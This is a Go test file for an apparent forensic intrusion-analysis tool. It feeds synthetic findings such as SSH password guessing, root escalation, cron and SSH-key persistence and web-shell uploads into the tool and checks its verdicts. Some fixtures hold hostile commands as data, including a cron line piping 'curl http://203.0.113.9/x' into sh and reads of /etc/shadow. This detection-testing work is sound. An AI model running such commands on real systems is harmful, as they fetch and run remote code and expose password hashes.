package story

import (
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"telltale/casefile"
	"telltale/detect"
	"telltale/evidence"
)

func at(s string) evidence.Time {
	t, err := time.Parse("15:04:05", s)
	if err != nil {
		panic(err)
	}
	return evidence.At(t.AddDate(2024, 0, 1), time.Second)
}

func quote(path string) []evidence.Quote {
	return []evidence.Quote{{Ref: evidence.Ref{Source: "s1", Path: "ext4:" + path, Line: 7}, Text: "the words that stand there"}}
}

// full is a setting in which everything that a verdict of "clean" needs was read.
func full() Setting {
	return Setting{Tree: true, Disk: true, ChangeTimes: true, Packages: true, WebRoots: []string{"/var/www/html"}, Coverage: []casefile.Coverage{
		{Path: "/var/log/auth.log", Artifact: "syslogfile", Records: 100, First: "2024-01-01T00:00:00Z", Last: "2024-01-03T00:00:00Z"},
		{Path: "/var/log/apache2/access.log", Artifact: "accesslog", Records: 100, First: "2024-01-01T00:00:00Z", Last: "2024-01-03T00:00:00Z"}}}
}

func login(what detect.What, account, source, method, from, to string, a detect.Access) detect.Finding {
	a.Sessions = []detect.Span{{Start: at(from), End: at(to)}}
	return detect.Finding{Detection: "D13", What: what, Title: "login of " + account, Rung: evidence.Accepted, Service: "sshd", Account: account, Source: source, Method: method, First: at(from), Last: at(to), Count: 1,
		Access: &a, For: quote("/var/log/auth.log")}
}

func guessed(from, to string) detect.Finding {
	f := login(detect.GuessedIn, "bob", "203.0.113.6", "password", from, to, detect.Access{FailedHere: 9, FailedAddress: 20, TriedAccounts: 5})
	f.Level = detect.High
	return f
}

func cron(path, runs string, l detect.Level, when string) detect.Finding {
	return detect.Finding{Detection: "D47", What: detect.Persistence, Mechanism: "cron", Title: "cron entry in " + path, Path: path, Runs: runs, As: "root", Level: l, Rung: evidence.Effect, First: at(when), Last: at(when),
		Attack: []string{"T1053.003"}, For: quote(path)}
}

func sudo(account, when string) detect.Finding {
	return detect.Finding{Detection: "D40", What: detect.BecameRoot, Title: account + " ran as root", Account: account, As: "root", Service: "sudo", Runs: "/bin/sh", Rung: evidence.Effect, First: at(when), Last: at(when), For: quote("/var/log/auth.log")}
}

func key(print, path, as, when string) detect.Finding {
	return detect.Finding{Detection: "D46", What: detect.Persistence, Mechanism: "ssh-key", Title: "key " + print, Key: print, Path: path, As: as, Rung: evidence.Effect, First: at(when), Last: at(when), For: quote(path)}
}

func byKey(account, source, print, from, to string) detect.Finding {
	f := login(detect.Login, account, source, "publickey", from, to, detect.Access{})
	f.Key = print
	return f
}

var guessing = detect.Finding{Detection: "D05", What: detect.Guessing, Title: "30 refused tries", Level: detect.Low, Rung: evidence.Attempt, Source: "203.0.113.9", Count: 30, For: quote("/var/log/auth.log")}

func TestVerdicts(t *testing.T) {
	amy := login(detect.Login, "amy", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true})
	for _, tc := range []struct {
		name, status, vector string
		confidence           Status
		root                 bool
		kept                 int // things that let the intruder come back
		set                  func(*Setting)
		findings             []detect.Finding
	}{
		{"guessed, root, cron", Compromised, "ssh-password-guessed", Confirmed, true, 1, nil, []detect.Finding{amy, guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00"), cron("/etc/cron.d/x", "/var/tmp/.x/y", detect.High, "03:02:00")}},
		{"guessed and nothing more", Compromised, "ssh-password-guessed", Confirmed, false, 0, nil, []detect.Finding{guessed("03:00:00", "03:00:01")}},
		{"an administrator's cron entry at another time", Compromised, "ssh-password-guessed", Confirmed, true, 0, nil, []detect.Finding{amy, sudo("amy", "01:01:00"), guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00"), cron("/etc/cron.d/backup", "tar -cf /x /home", detect.Info, "01:02:00")}},
		{"an ordinary entry while both were there", Compromised, "ssh-password-guessed", Confirmed, true, 0, nil, []detect.Finding{login(detect.Login, "amy", "198.51.100.2", "publickey", "02:59:00", "03:30:00", detect.Access{FirstOfAccount: true}), sudo("amy", "03:03:00"),
			guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00"), cron("/etc/cron.d/backup", "tar -cf /x /home", detect.Info, "03:02:00")}},
		{"not root, so root's cron entry is not his", Compromised, "ssh-password-guessed", Confirmed, false, 0, nil, []detect.Finding{guessed("03:00:00", "03:10:00"), cron("/etc/cron.d/backup", "tar -cf /x /home", detect.Info, "03:02:00")}},
		{"a known password and something bad in the session", Compromised, "ssh-password-known", Likely, true, 1, nil, []detect.Finding{amy, login(detect.Login, "bob", "203.0.113.6", "password", "03:00:00", "03:10:00", detect.Access{NewAddress: true}), sudo("bob", "03:01:00"), cron("/etc/cron.d/x", "/var/tmp/.x/y", detect.High, "03:02:00")}},
		{"a new address alone", Clean, "", Likely, false, 0, nil, []detect.Finding{amy, login(detect.Login, "amy", "203.0.113.6", "password", "03:00:00", "03:10:00", detect.Access{NewAddress: true})}},
		{"a typing error", Clean, "", Likely, false, 0, nil, []detect.Finding{amy, login(detect.Login, "amy", "198.51.100.2", "password", "03:00:00", "03:10:00", detect.Access{FailedHere: 2})}},
		{"only guessing", Attacked, "", Confirmed, false, 0, nil, []detect.Finding{amy, guessing}},
		{"nothing", Clean, "", Likely, false, 0, nil, []detect.Finding{amy}},
		{"nothing, but no logs of logins", string(CannotTell), "", Possible, false, 0, func(s *Setting) { s.Coverage = nil }, nil},
		{"nothing, but only logs", string(CannotTell), "", Possible, false, 0, func(s *Setting) { s.Tree = false }, nil},
		{"nothing, but damage", string(CannotTell), "", Possible, false, 0, func(s *Setting) { s.Damaged = 3 }, nil},
		{"something bad that nothing explains", Compromised, "unknown", Possible, true, 1, nil, []detect.Finding{cron("/etc/cron.d/x", "curl http://203.0.113.9/x | sh", detect.Critical, "03:02:00")}},
		{"a script uploaded", Compromised, "web-upload", Confirmed, false, 1, nil, []detect.Finding{{Detection: "D23", What: detect.WebUpload, Title: "an intruder's script: /var/www/html/uploads/x.php", Level: detect.Critical, Rung: evidence.Effect,
			Path: "/var/www/html/uploads/x.php", Account: "www-data", Source: "203.0.113.6", Service: "web", First: at("03:00:00"), Last: at("03:05:00"), Detail: "it runs what a request carries", For: quote("/var/log/apache2/access.log")}}},
		{"the same by ftp", Compromised, "ftp-password", Confirmed, false, 1, nil, []detect.Finding{{Detection: "D54", What: detect.WebScript, Title: "an intruder's script: /var/www/html/uploads/x.php", Level: detect.Critical, Rung: evidence.Effect,
			Path: "/var/www/html/uploads/x.php", Account: "bob", Service: "web", First: at("03:00:00"), Last: at("03:05:00"), Detail: "it runs what a request carries", For: quote("/var/log/apache2/access.log")},
			{Detection: "D28", What: detect.Upload, Title: "bob wrote", Path: "/var/www/html/uploads/x.php", Account: "bob", Source: "203.0.113.6", Service: "vsftpd", First: at("03:00:00"), Last: at("03:00:00"), Rung: evidence.Accepted, For: quote("/var/log/vsftpd.log")}}},
		{"a newsletter by the web server", Clean, "", Likely, false, 0, nil, []detect.Finding{amy, {Detection: "D73", What: detect.MailRun, Title: "400 mails", Level: detect.High, Rung: evidence.Effect, Account: "www-data", Count: 400, First: at("03:00:00"), Last: at("03:05:00"), Mechanism: "local", For: quote("/var/log/mail.log")}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			set := full()
			if tc.set != nil {
				tc.set(&set)
			}
			s := Build(t.Context(), tc.findings, set)
			check(t, &s)
			if s.Verdict.Status != tc.status || s.Verdict.Confidence != tc.confidence {
				t.Errorf("%s (%s), want %s (%s): %s", s.Verdict.Status, s.Verdict.Confidence, tc.status, tc.confidence, s.Verdict.Summary)
			}
			if root := s.Verdict.Root != nil && *s.Verdict.Root; root != tc.root {
				t.Errorf("root %v, want %v", root, tc.root)
			}
			vector := ""
			if len(s.Entry) > 0 {
				vector = s.Entry[0].Vector
			}
			if vector != tc.vector || len(s.Entry) > 1 {
				t.Errorf("entry %+v, want %q", s.Entry, tc.vector)
			}
			if len(s.Persistence) != tc.kept {
				t.Errorf("persistence %+v, want %d", s.Persistence, tc.kept)
			}
		})
	}
}

func TestKeysOfTheIntruderAndOfOthers(t *testing.T) {
	theirs := key("SHA256:bad", "/root/.ssh/authorized_keys", "root", "03:02:00")
	theirs.First = at("00:00:01") // the file is older than the session, the key was appended
	theirs.For[0].Ref.Line = 2
	ours := key("SHA256:good", "/root/.ssh/authorized_keys", "root", "03:02:00")
	ours.First = at("00:00:01")
	ours.For = quote("/root/.ssh/authorized_keys")
	ours.For[0].Ref.Line = 1
	s := Build(t.Context(), []detect.Finding{byKey("root", "198.51.100.2", "SHA256:good", "01:00:00", "01:05:00"), guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00"), theirs, ours,
		byKey("root", "203.0.113.77", "SHA256:bad", "05:00:00", "05:01:00"), byKey("root", "198.51.100.2", "SHA256:good", "06:00:00", "06:05:00")}, full())
	check(t, &s)
	if len(s.Persistence) != 1 || s.Persistence[0].Path != "/root/.ssh/authorized_keys" {
		t.Errorf("%+v", s.Persistence)
	}
	if len(s.Actors) != 1 || strings.Join(s.Actors[0].Sources, " ") != "203.0.113.6 203.0.113.77" {
		t.Errorf("%+v", s.Actors)
	}
	if len(s.Entry) != 1 {
		t.Errorf("coming back with a key is no other way in: %+v", s.Entry)
	}
}

func TestNoClaimWithoutEvidence(t *testing.T) {
	if _, err := NewClaim("the butler did it", evidence.Effect, evidence.Time{}, Confirmed, nil, nil); err == nil {
		t.Error("a claim was made of nothing")
	}
}

// TestAnySubset builds stories of random parts of findings: whatever is missing, the answer holds together.
func TestAnySubset(t *testing.T) {
	all := []detect.Finding{guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00"), cron("/etc/cron.d/x", "/var/tmp/.x/y", detect.High, "03:02:00"), cron("/etc/cron.d/b", "tar", detect.Info, "03:02:30"), key("SHA256:bad", "/root/.ssh/authorized_keys", "root", "03:02:00"),
		byKey("root", "203.0.113.77", "SHA256:bad", "05:00:00", "05:01:00"), guessing, login(detect.Login, "amy", "198.51.100.2", "password", "01:00:00", "01:10:00", detect.Access{FailedHere: 2, NewAddress: true}),
		{Detection: "D60", What: detect.LogEdited, Title: "9 lines missing", Level: detect.Critical, Rung: evidence.Witnessed, Source: "203.0.113.6", Path: "/var/log/auth.log", Count: 9, First: at("03:00:00"), Last: at("03:01:00"), For: quote("/j")},
		{Detection: "D61", What: detect.HistoryGone, Title: "history is empty", Level: detect.Medium, Rung: evidence.Effect, Account: "root", Path: "/root/.bash_history", First: at("03:03:00"), For: quote("/root/.bash_history")},
		{Detection: "D23", What: detect.WebUpload, Title: "script", Level: detect.Critical, Rung: evidence.Effect, Path: "/var/www/html/uploads/x.php", Account: "www-data", Source: "203.0.113.8", Sources: []string{"203.0.113.8"}, First: at("02:00:00"), Last: at("02:05:00"), For: quote("/a")},
		{Detection: "D21", What: detect.WebExecution, Title: "child", Level: detect.High, Rung: evidence.Effect, First: at("02:01:00"), Last: at("02:01:00"), Detail: "wget:", For: quote("/e")},
		{Detection: "D73", What: detect.MailRun, Title: "mails", Level: detect.High, Rung: evidence.Effect, Account: "www-data", Count: 40, First: at("02:02:00"), Last: at("02:04:00"), Mechanism: "local", For: quote("/m")},
		{Detection: "D45", What: detect.AccountOdd, Title: "twin", Level: detect.High, Rung: evidence.Effect, Account: "sysbak", Path: "/etc/passwd", First: at("03:04:00"), For: quote("/etc/passwd")}}
	all = append(append(all, lie()...), knows("amy", "db1"), read("bob", "cat /etc/shadow", "03:02:00", "/etc/shadow"), read("root", "cat /etc/shadow", "", "/etc/shadow"), fetched("/all.sql", "203.0.113.8", "02:04:00"), outgoing("bob", "root", "ssh", "db1", "ssh db1", "03:02:00"), outgoing("amy", "", "ssh", "db2", "ssh db2", ""))
	r := rand.New(rand.NewPCG(1, 2))
	for range 3000 {
		var some []detect.Finding
		for _, f := range all {
			if r.IntN(2) == 0 {
				some = append(some, f)
			}
		}
		set := full()
		if r.IntN(3) == 0 {
			set.Coverage = nil
		}
		s := Build(t.Context(), some, set)
		check(t, &s)
		if t.Failed() {
			t.Fatalf("with %d findings: %+v", len(some), some)
		}
	}
}

// check looks at what must hold of every story.
func check(t *testing.T, s *Story) {
	t.Helper()
	for _, c := range s.Contradictions() {
		t.Error(c)
	}
	checkSteps(t, s)
	known := map[string]*Claim{}
	for i := range s.Claims {
		known[s.Claims[i].ID] = &s.Claims[i]
		if len(s.Claims[i].For) == 0 {
			t.Errorf("the claim %q rests on nothing", s.Claims[i].Text)
		}
	}
	strong := false
	named := func(what string, ids []string, must bool) {
		if must && len(ids) == 0 {
			t.Errorf("%s has no claim", what)
		}
		for _, id := range ids {
			if known[id] == nil {
				t.Errorf("%s names the claim %q, which is not there", what, id)
			} else if r := known[id].Rung; r == "c" || r == "d" {
				strong = true
			}
		}
	}
	confirmed := false
	for _, e := range s.Entry {
		named("entry "+e.Vector, e.Claims, true)
		confirmed = confirmed || e.Status == Confirmed
	}
	for _, x := range s.Actions {
		named("action "+x.What, x.Claims, true)
	}
	for _, x := range s.Persistence {
		named("persistence "+x.Path, x.Claims, true)
	}
	for _, x := range s.Altered {
		named("altered "+x.Path, x.Claims, true)
	}
	for _, x := range s.Impact {
		named("impact "+x.What, x.Claims, true)
	}
	for _, x := range s.Exposed {
		named("exposed "+x.Path, x.Claims, true)
	}
	for _, x := range s.Contacted {
		named("contacted "+x.Host, x.Claims, true)
	}
	for _, x := range s.Actors {
		named("actor", x.Claims, false)
	}
	for _, h := range s.Hypotheses {
		named("hypothesis "+h.Vector, append(append([]string{}, h.For...), h.Against...), false)
	}
	if s.Verdict.Status == Compromised && !strong && !confirmed {
		t.Errorf("compromised without an effect and without a confirmed session: %s", s.Verdict.Summary)
	}
	accused := len(s.Entry) + len(s.Actions) + len(s.Persistence) + len(s.Impact) + len(s.Exposed) + len(s.Contacted)
	for _, a := range s.Altered {
		if a.Kind != string(detect.PackageDiff) { // that a program differs from its package accuses nobody
			accused++
		}
	}
	if s.Verdict.Status != Compromised && accused > 0 {
		t.Errorf("%s, and yet somebody is accused", s.Verdict.Status)
	}
	if s.Verdict.Summary == "" {
		t.Error("no summary")
	}
}
